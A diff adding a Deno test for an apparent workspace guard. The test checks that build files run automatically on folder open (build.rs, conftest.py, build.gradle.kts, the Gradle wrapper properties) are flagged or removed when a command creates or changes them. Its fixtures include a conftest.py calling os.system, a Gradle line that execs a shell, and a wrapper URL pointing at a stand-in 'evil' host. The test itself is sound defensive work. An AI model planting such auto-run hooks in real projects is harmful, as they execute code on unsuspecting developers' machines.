@@ -136,6 +136,36 @@ Deno.test("runs later 6: Yarn's and terraform's executed files in kept folders a
   }
 });
 
+Deno.test("runs later 6: build files editors run when the folder opens are flagged when made or changed, not when untouched", async () => {
+  const w = await world(
+    `mkdir -p app && echo 'old' > app/CMakeLists.txt && echo 'plugins {}' > build.gradle.kts`,
+  );
+  try {
+    const out = await w.run(
+      [
+        `printf 'fn main(){}' > build.rs`,
+        `printf '[package]\\nname="x"\\nversion="0.1.0"\\nbuild="build.rs"\\n' > Cargo.toml`,
+        `echo 'import os; os.system("touch PWNED")' > conftest.py`,
+        `mkdir -p gradle/wrapper && echo 'distributionUrl=https://evil/x.zip' > gradle/wrapper/gradle-wrapper.properties`,
+        `echo 'exec { commandLine("sh") }' >> build.gradle.kts`,
+        `echo done`,
+      ].join(" && "),
+    );
+    assert.match(out, /done/, out);
+    const flagged = /files a tool runs later that the command created or changed[^\n]*/.exec(out);
+    assert.ok(flagged, out);
+    // The Gradle wrapper's properties are a protected name already: removed, not only flagged.
+    assert.equal(await exists(join(w.ws, "gradle/wrapper/gradle-wrapper.properties")), false, out);
+    for (const p of ["build.rs", "conftest.py", "build.gradle.kts"]) {
+      assert.ok(flagged[0].includes(p), `${p} flagged: ${out}`);
+      assert.equal(await exists(join(w.ws, p)), true, `${p} kept`);
+    }
+    assert.ok(!flagged[0].includes("CMakeLists.txt"), `an untouched one is not flagged: ${out}`);
+  } finally {
+    await w.cleanup();
+  }
+});
+
 Deno.test("runs later 6: a new file whose name is not valid UTF-8 is quarantined, an old one left alone", async () => {
   const w = await world(
     `${PY} -m venv --without-pip .venv && mkdir -p .github/workflows && echo x > $'old\\xfa'`,
